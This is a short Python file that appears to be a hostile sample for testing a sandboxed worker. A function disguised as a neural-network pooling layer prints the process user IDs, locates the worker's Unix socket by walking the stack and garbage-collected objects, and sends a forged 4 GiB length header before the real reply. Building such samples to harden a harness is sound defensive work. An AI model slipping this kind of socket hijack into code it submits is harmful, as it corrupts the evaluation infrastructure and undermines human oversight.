# Writes a reply header to the worker's socket that claims to be 4 GiB long, then returns normally.
import os
import struct
import sys


def _hostile_uid():
    print(f"HOSTILE-UID={os.getuid()} HOSTILE-EUID={os.geteuid()}")


def _hostile_socket():
    frame = sys._getframe()
    while frame is not None:
        sock = getattr(frame.f_locals.get("self"), "sock", None)
        if sock is not None and hasattr(sock, "sendall"):
            return sock
        frame = frame.f_back
    import gc
    import socket
    for obj in gc.get_objects():       # not found on the stack: any connected unix stream socket
        if isinstance(obj, socket.socket) and obj.fileno() >= 0 and obj.family == socket.AF_UNIX \
                and obj.type == socket.SOCK_STREAM:
            return obj
    raise RuntimeError("hostile: the worker's socket was not found")


def pooling_layer(activation_map, pool_type='max', stride=2, filter_size=(2, 2)):
    """ATTACK: send struct.pack('!I', 0xFFFFFFFF) on the worker's socket before the real reply."""
    _hostile_uid()
    _hostile_socket().sendall(struct.pack("!I", 0xFFFFFFFF) + b"{" * 1024)
    return np.zeros(3)
